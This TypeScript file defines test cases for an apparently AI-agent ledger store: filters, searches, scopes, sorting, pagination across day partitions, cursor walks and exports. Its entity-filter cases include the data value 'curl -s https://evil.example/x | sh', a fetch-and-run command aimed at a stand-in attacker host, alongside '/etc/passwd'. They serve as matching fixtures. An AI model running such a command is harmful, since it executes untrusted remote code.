import type { EntryRecord } from '../../model/ledger-entry.js';
import { parseSearchQuery } from '../../model/search-query.js';
import { LEDGER_SORT_FIELDS, type EntityFilter, type EntryFieldFilter, type LedgerFilter, type LedgerQuery } from '../../exporters/store.js';
import { dayOf, MIDNIGHT_WORD, MIDNIGHTS_US } from './cross-partition.js';
import { AGENTS, BASE_US, ENTITY_PSEUDONYM, HOUR_US } from './dataset.js';
import { entryOrder, matchesFilter } from './expected-ledger.js';
import { A, SCOPES } from './scopes.js';

/** Ledger query cases: the caption says what is asked; the suite computes the answer. */
export interface LedgerCase {
  caption: string;
  query: LedgerQuery;
}

const NOV_30_LAST_US = Date.UTC(2024, 10, 30, 23, 59, 59) * 1000 + 999_999;
const JAN_1_US = Date.UTC(2025, 0, 1) * 1000;
const [M1, M2, M3] = MIDNIGHTS_US;
/** Half a day either side of a midnight, cutting hours: a range whose pages come from two partitions. */
export const ACROSS_MIDNIGHT = { start_us: M1 - 12 * HOUR_US + 123, end_us: M1 + 12 * HOUR_US - 77 };

/** Filters alone: every LedgerFilter field, over organization A. */
export function filterCases(entries: readonly EntryRecord[]): Array<[string, Omit<LedgerFilter, 'scope'>]> {
  const runSizes = new Map<string, number>();
  for (const e of entries) if (e.organization_id === 'org_a') runSizes.set(e.run_id, (runSizes.get(e.run_id) ?? 0) + 1);
  const bigRun = [...runSizes].sort((a, b) => b[1] - a[1] || (a[0] < b[0] ? -1 : 1))[0][0];
  const otherOrgRun = entries.find((e) => e.organization_id === 'org_b')!.run_id;
  return [
    ...(['success', 'error', 'blocked'] as const).map((o): [string, Omit<LedgerFilter, 'scope'>] => [`outcome ${o}`, { outcome: o }]),
    ...['database_query', 'café', 'cafe\u0301', 'DATABASE_QUERY', 'ΣΊΣΥΦΟΣ', 'missing'].map((n): [string, Omit<LedgerFilter, 'scope'>] => [
      `action_name ${JSON.stringify(n)} (exact, case- and normalisation-sensitive)`,
      { action_name: n },
    ]),
    ...[...AGENTS, 'sub-agent', 'AGENT-ALPHA'].map((a): [string, Omit<LedgerFilter, 'scope'>] => [`agent_id ${JSON.stringify(a)}`, { agent_id: a }]),
    [`run_id of the largest run`, { run_id: bigRun }],
    [`run_id of another organization's run`, { run_id: otherOrgRun }],
    [`run_id unknown`, { run_id: '00000000-0000-0000-0000-000000000000' }],
    ['min_cost 0', { min_cost_nanos: 0 }],
    ['min_cost 10000000 (ties on the bound)', { min_cost_nanos: 10_000_000 }],
    ['min_cost 999999999', { min_cost_nanos: 999_999_999 }],
    ['min_cost above every cost', { min_cost_nanos: 1_234_567_892 }],
    ['max_cost 0', { max_cost_nanos: 0 }],
    ['max_cost 10000000', { max_cost_nanos: 10_000_000 }],
    ['cost range 1..25000000', { min_cost_nanos: 1, max_cost_nanos: 25_000_000 }],
    ['cost range 10000000..10000000', { min_cost_nanos: 10_000_000, max_cost_nanos: 10_000_000 }],
    // sub-micro bounds: micro-USD could not tell these apart
    ['min_cost 19300 nanos (0.0000193 USD, ties on the bound)', { min_cost_nanos: 19_300 }],
    ['min_cost 19301 nanos', { min_cost_nanos: 19_301 }],
    ['max_cost 200 nanos (a 10-token embedding call)', { max_cost_nanos: 200 }],
    ['cost range 2..19299 nanos', { min_cost_nanos: 2, max_cost_nanos: 19_299 }],
    ['cost range 19300..19300 nanos', { min_cost_nanos: 19_300, max_cost_nanos: 19_300 }],
    ['start on an exact hour (inclusive)', { start_us: BASE_US + 5 * HOUR_US }],
    ['start on the last µs of an hour', { start_us: BASE_US + 7 * HOUR_US - 1 }],
    ['end on the last µs of an hour (inclusive)', { end_us: BASE_US + 7 * HOUR_US - 1 }],
    ['end on an exact hour', { end_us: BASE_US + 5 * HOUR_US }],
    ['range inside one hour', { start_us: BASE_US + 5 * HOUR_US, end_us: BASE_US + 5 * HOUR_US + 5_000 }],
    ['range over the month edges', { start_us: NOV_30_LAST_US, end_us: JAN_1_US }],
    ['range of one µs on the last µs of November', { start_us: NOV_30_LAST_US, end_us: NOV_30_LAST_US }],
    ['start after every entry', { start_us: JAN_1_US + 1 }],
    // day (partition) edges: inclusive bounds on the first and last µs of a day
    ['end exactly at midnight (inclusive: the first µs of the next day)', { end_us: M1 }],
    ['end on the last µs before midnight', { end_us: M1 - 1 }],
    ['start exactly at midnight', { start_us: M1 }],
    ['start on the last µs before midnight', { start_us: M1 - 1 }],
    ['the two µs around midnight', { start_us: M1 - 1, end_us: M1 }],
    ['one µs, exactly at midnight', { start_us: M1, end_us: M1 }],
    ['mid-day to mid-day across midnight', ACROSS_MIDNIGHT],
    ['a whole day exactly', { start_us: M1, end_us: M2 - 1 }],
    ['over three days, ending mid-partition', { start_us: M1 - HOUR_US - 5, end_us: M3 + HOUR_US + 5 }],
    ['from before the first day to mid-day', { start_us: BASE_US - 4 * HOUR_US, end_us: BASE_US + 30 * HOUR_US + 1 }],
    ...entryFieldCases(),
    ...entityCases(),
  ];
}

/** An extracted entity (store.ts EntityFilter): each type, values on several days, exact (no normalisation in the store), none. */
export function entityCases(): Array<[string, Omit<LedgerFilter, 'scope'>]> {
  const cases: Array<[string, EntityFilter]> = [
    ['host evil.example', { type: 'host', value: 'evil.example' }],
    ['host EVIL.EXAMPLE (exact: stored values are normalised at ingest)', { type: 'host', value: 'EVIL.EXAMPLE' }],
    ['host xn--bcher-kva.example', { type: 'host', value: 'xn--bcher-kva.example' }],
    ['url', { type: 'url', value: 'https://evil.example/x' }],
    ['email pseudonym', { type: 'email', value: ENTITY_PSEUDONYM }],
    ['ip v4', { type: 'ip', value: '10.0.0.7' }],
    ['ip v6', { type: 'ip', value: '2001:db8::1' }],
    ['path', { type: 'path', value: '/etc/passwd' }],
    ['path in another script', { type: 'path', value: '/tmp/東京.txt' }],
    ['command', { type: 'command', value: 'curl -s https://evil.example/x | sh' }],
    ['host value under another type', { type: 'url', value: 'evil.example' }],
    ['unknown host', { type: 'host', value: 'never.example' }],
  ];
  return cases.map(([caption, entity]) => [`entity ${caption}`, { entity }]);
}

/** The console's exact-value filters (store.ts EntryFieldFilter): each alone, missing values, case, and with others. */
export function entryFieldCases(): Array<[string, EntryFieldFilter]> {
  return [
    ...(['tool', 'llm', 'agent', 'chain', 'other'] as const).map((k): [string, EntryFieldFilter] => [`kind ${k}`, { kind: k }]),
    ['model gpt-4o', { model: 'gpt-4o' }],
    ['model GPT-4O (exact, case-sensitive)', { model: 'GPT-4O' }],
    ['model claude-sonnet-4 + provider anthropic', { model: 'claude-sonnet-4', provider: 'anthropic' }],
    ['provider openai', { provider: 'openai' }],
    ['provider missing', { provider: 'nobody' }],
    ['user_id alice', { user_id: 'alice' }],
    ['user_id bob (another organization\'s user)', { user_id: 'bob' }],
    ['user_id unknown', { user_id: 'mallory' }],
    ['service_name billing-svc', { service_name: 'billing-svc' }],
    ['service_name conformance + kind llm', { service_name: 'conformance', kind: 'llm' }],
    ...['prod', 'ünïcode', 'a', 'Z', 'z', 'pro', '%'].map((t): [string, EntryFieldFilter] => [`tag ${JSON.stringify(t)} (one of the tags, exact)`, { tag: t }]),
    ...['conv-0', 'conv-1', 'conv-2'].map((c): [string, EntryFieldFilter] => [`conversation_id ${c} (any convention)`, { conversation_id: c }]),
    ['conversation_id hidden by a higher-priority key', { conversation_id: 'conv-hidden' }],
    ['conversation_id conv + tag + user', { conversation_id: 'conv-1', tag: 'prod', user_id: 'alice' }],
    ['every entry field at once', { kind: 'llm', model: 'gpt-4o', provider: 'openai', user_id: 'alice', service_name: 'conformance', tag: 'beta', conversation_id: 'conv-0' }],
  ];
}

/** `search`: literal, Unicode case-insensitive substrings; metacharacters of LIKE, wildcards and regexes are plain text. */
export const SEARCHES = [
  'data', 'DATA', 'err', 'ss', 'blocked', 'BLOCK', '%', '_', '%_', '*', '?', '\\', '[', ']', '[bracket]', '.*', 'agent_%_',
  'r*s', 'AGENT*STAR?', 'straße', 'STRASSE', 'σίσυφος', 'σίσυφοσ', 'İstanbul', 'istanbul', 'café', 'CAFE\u0301', 'é', '🚀',
  '東京', 'エージェント', 'ｆｕｌｌ', 'full', ' ', '\uffe0', '𝒜', 'ägent-Ü', 'zzz-none', 'a',
];

/** `q`: words, phrases, prefixes, exclusions, scripts without spaces; all parsed by the one parser. */
export const QUERIES = [
  'refund', 'REFUND', '"refund failed"', 'refund -approved', 'time*', '"connection tim"*', 'muller', 'MÜLLER', '東京', '京都',
  '天', '東京都庁の', 'بالعالم', 'ops@example.com', 'c-1042', '42', 'strasse', 'resume', 'timeout -connection', 'zzzz',
  'agent_run', 'Rate limited', '"refund failed" order',
];

const base = (scope = A): LedgerQuery => ({ scope, sort_by: 'timestamp', sort_order: 'desc', page: 0, page_size: 1000 });

export function ledgerCases(entries: readonly EntryRecord[]): LedgerCase[] {
  const cases: LedgerCase[] = [];
  const add = (caption: string, query: LedgerQuery) => cases.push({ caption, query });
  for (const [name, scope] of Object.entries(SCOPES)) add(`scope ${name}: every entry`, base(scope));
  for (const [caption, filter] of filterCases(entries)) add(caption, { ...base(), ...filter });
  for (const s of SEARCHES) add(`search ${JSON.stringify(s)}`, { ...base(), search: s });
  for (const q of QUERIES) add(`q ${JSON.stringify(q)}`, { ...base(), q: parseSearchQuery(q) });
  const combos: Array<[string, Partial<LedgerQuery>]> = [
    ['outcome error + agent', { outcome: 'error', agent_id: AGENTS[0] }],
    ['user scope alice + user_id bob: never wider than the scope', { scope: SCOPES['org_a/alice'], user_id: 'bob' }],
    ['user scope alice + user_id alice', { scope: SCOPES['org_a/alice'], user_id: 'alice' }],
    ['superuser + user_id bob + kind tool', { scope: SCOPES.superuser, user_id: 'bob', kind: 'tool' }],
    ['search % + min_cost', { search: '%', min_cost_nanos: 10_000_000 }],
    ['search name + outcome', { search: 'e', outcome: 'blocked' }],
    ['date range + agent + max_cost', { start_us: BASE_US + 6 * HOUR_US, end_us: BASE_US + 50 * HOUR_US, agent_id: AGENTS[1], max_cost_nanos: 25_000_000 }],
    ['action_name + date range', { action_name: 'agent_run', start_us: BASE_US, end_us: BASE_US + 40 * HOUR_US }],
    ['search + q', { search: 'a', q: parseSearchQuery('timeout') }],
    ['entity host + user scope alice', { scope: SCOPES['org_a/alice'], entity: { type: 'host', value: 'evil.example' } }],
    ['entity host + superuser', { scope: SCOPES.superuser, entity: { type: 'host', value: 'evil.example' } }],
    ['entity host + date range across midnight', { ...ACROSS_MIDNIGHT, entity: { type: 'host', value: 'evil.example' } }],
    ['entity ip + outcome error + agent', { entity: { type: 'ip', value: '10.0.0.7' }, outcome: 'error', agent_id: AGENTS[0] }],
    ['entity host + q', { entity: { type: 'host', value: 'evil.example' }, q: parseSearchQuery('refund') }],
    ['q + outcome error', { q: parseSearchQuery('connection'), outcome: 'error' }],
    ['q + cost range + agent', { q: parseSearchQuery('refund'), min_cost_nanos: 1, agent_id: AGENTS[2] }],
    ['every filter at once', {
      outcome: 'success', agent_id: AGENTS[0], min_cost_nanos: 0, max_cost_nanos: 50_000_000, start_us: BASE_US,
      end_us: JAN_1_US, search: 'a', q: parseSearchQuery('the'),
    }],
  ];
  for (const [caption, filter] of combos) add(caption, { ...base(), ...filter });
  add('scope org_a/alice + search', { ...base(SCOPES['org_a/alice']), search: 'agent' });
  add('scope superuser + action_name', { ...base(SCOPES.superuser), action_name: 'agent_run' });
  add('scope superuser/alice + q', { ...base(SCOPES['superuser/alice']), q: parseSearchQuery('refund') });
  add('scope org_b + q', { ...base(SCOPES.org_b), q: parseSearchQuery('timeout') });
  // every sort × order, small pages so ties cross page boundaries, and pages past the end
  for (const sort_by of LEDGER_SORT_FIELDS) {
    for (const sort_order of ['asc', 'desc'] as const) {
      for (const page of [0, 1, 5, 999]) add(`sort ${sort_by} ${sort_order}, page ${page} of 7`, { ...base(), sort_by, sort_order, page, page_size: 7 });
      add(`sort ${sort_by} ${sort_order}, superuser, page 2 of 50`, { ...base(SCOPES.superuser), sort_by, sort_order, page: 2, page_size: 50 });
      add(`sort ${sort_by} ${sort_order}, outcome error, page 1 of 3`, { ...base(), outcome: 'error', sort_by, sort_order, page: 1, page_size: 3 });
    }
  }
  const countA = entries.filter((e) => e.organization_id === 'org_a').length;
  add('page exactly at the end', { ...base(), page: Math.ceil(countA / 10), page_size: 10 });
  add('last partial page', { ...base(), page: Math.ceil(countA / 10) - 1, page_size: 10 });
  add('page size 1, page 3', { ...base(), page: 3, page_size: 1 });
  add('name sort, every organization, one page', { ...base(SCOPES.superuser), sort_by: 'name', sort_order: 'asc' });
  for (const scope of ['org_a', 'superuser'] as const) add(`q ${MIDNIGHT_WORD} (matches on five days), scope ${scope}`, { ...base(SCOPES[scope]), q: parseSearchQuery(MIDNIGHT_WORD) });
  cases.push(...straddlingPageCases(entries));
  return cases;
}

/**
 * For every sort and order, the first page (of a few sizes) whose rows come
 * from two days, over a range across midnight and over everything: found
 * from the records, so the case straddles partitions whatever the data.
 */
export function straddlingPageCases(entries: readonly EntryRecord[]): LedgerCase[] {
  const cases: LedgerCase[] = [];
  for (const [caption, filter] of [['across midnight', ACROSS_MIDNIGHT], ['organization A', {}], ['superuser', { scope: SCOPES.superuser }]] as const) {
    for (const sort_by of LEDGER_SORT_FIELDS) {
      for (const sort_order of ['asc', 'desc'] as const) {
        const query: LedgerQuery = { ...base(), sort_by, sort_order, ...filter };
        const matches = entries.filter((e) => matchesFilter(e, query)).sort(entryOrder(sort_by, sort_order));
        for (const page_size of [3, 4, 5, 7]) {
          const page = pageAcrossDays(matches, page_size);
          if (page !== null) cases.push({ caption: `page across two days: ${caption}, sort ${sort_by} ${sort_order}, page ${page} of ${page_size}`, query: { ...query, page, page_size } });
        }
      }
    }
  }
  return cases;
}

/** The first page of `page_size` whose rows lie on two days or more; null when there is none. */
export function pageAcrossDays(sorted: readonly EntryRecord[], page_size: number): number | null {
  for (let page = 0; page * page_size < sorted.length; page++) {
    const days = new Set(sorted.slice(page * page_size, (page + 1) * page_size).map((e) => dayOf(e.start_us)));
    if (days.size > 1) return page;
  }
  return null;
}

/**
 * Keyset walks: every sort and order over several filters and scopes, in
 * small pages so that ties (equal costs, durations, names) cross page
 * boundaries. The suite follows `next` to the end and compares with the
 * walk by page numbers.
 */
export function cursorWalkCases(): LedgerCase[] {
  const filters: Array<[string, Partial<LedgerQuery>]> = [
    ['organization A', {}],
    ['outcome error', { outcome: 'error' }],
    ['search "a"', { search: 'a' }],
    ['q refund', { q: parseSearchQuery('refund') }],
    ['cost range + date range', { min_cost_nanos: 1, max_cost_nanos: 25_000_000, start_us: BASE_US + 6 * HOUR_US }],
    ['scope org_a/alice', { scope: SCOPES['org_a/alice'] }],
    ['scope superuser', { scope: SCOPES.superuser }],
    ['mid-day to mid-day across midnight', ACROSS_MIDNIGHT],
    ['ending exactly at midnight', { start_us: M1 - 6 * HOUR_US, end_us: M1 }],
    [`q ${MIDNIGHT_WORD} (five days)`, { q: parseSearchQuery(MIDNIGHT_WORD) }],
    ['entity host evil.example', { entity: { type: 'host', value: 'evil.example' } }],
  ];
  const cases: LedgerCase[] = [];
  for (const sort_by of LEDGER_SORT_FIELDS) {
    for (const sort_order of ['asc', 'desc'] as const) {
      for (const [caption, filter] of filters) {
        const page_size = filter.scope === SCOPES.superuser ? 29 : 11;
        cases.push({ caption: `${caption}, sort ${sort_by} ${sort_order}, pages of ${page_size}`, query: { ...base(), sort_by, sort_order, page_size, ...filter } });
      }
    }
  }
  cases.push({ caption: 'no match at all', query: { ...base(), action_name: 'missing', page_size: 5 } });
  return cases;
}

export interface ExportCase {
  caption: string;
  filter: LedgerFilter;
  limit: number;
}

export function exportCases(entries: readonly EntryRecord[]): ExportCase[] {
  // newest first: a limit that stops inside the earlier of two days
  const across: LedgerFilter = { scope: A, ...ACROSS_MIDNIGHT };
  const laterDay = entries.filter((e) => matchesFilter(e, across) && e.start_us >= M1).length;
  return [
    { caption: 'across midnight, everything', filter: across, limit: 100_000 },
    { caption: `across midnight, a limit that stops in the earlier day (${laterDay} rows after midnight + 2)`, filter: across, limit: laterDay + 2 },
    { caption: `q ${MIDNIGHT_WORD}, superuser`, filter: { scope: SCOPES.superuser, q: parseSearchQuery(MIDNIGHT_WORD) }, limit: 1000 },
    { caption: 'organization A, everything', filter: { scope: A }, limit: 100_000 },
    { caption: 'limit 5', filter: { scope: A }, limit: 5 },
    { caption: 'limit 1', filter: { scope: A }, limit: 1 },
    { caption: 'outcome error, limit 10', filter: { scope: A, outcome: 'error' }, limit: 10 },
    { caption: 'search %, limit 3', filter: { scope: A, search: '%' }, limit: 3 },
    { caption: 'q refund', filter: { scope: A, q: parseSearchQuery('refund') }, limit: 1000 },
    { caption: 'q 東京 + outcome success', filter: { scope: A, q: parseSearchQuery('東京'), outcome: 'success' }, limit: 1000 },
    { caption: 'superuser, everything', filter: { scope: SCOPES.superuser }, limit: 100_000 },
    { caption: 'superuser, limit 33', filter: { scope: SCOPES.superuser }, limit: 33 },
    { caption: 'alice + agent', filter: { scope: SCOPES['org_a/alice'], agent_id: AGENTS[0] }, limit: 1000 },
    { caption: 'date range + cost range', filter: { scope: A, start_us: BASE_US + HOUR_US, end_us: BASE_US + 30 * HOUR_US, min_cost_nanos: 10_000, max_cost_nanos: 25_000 }, limit: 1000 },
    { caption: 'unknown organization', filter: { scope: SCOPES.unknown_org }, limit: 1000 },
  ];
}
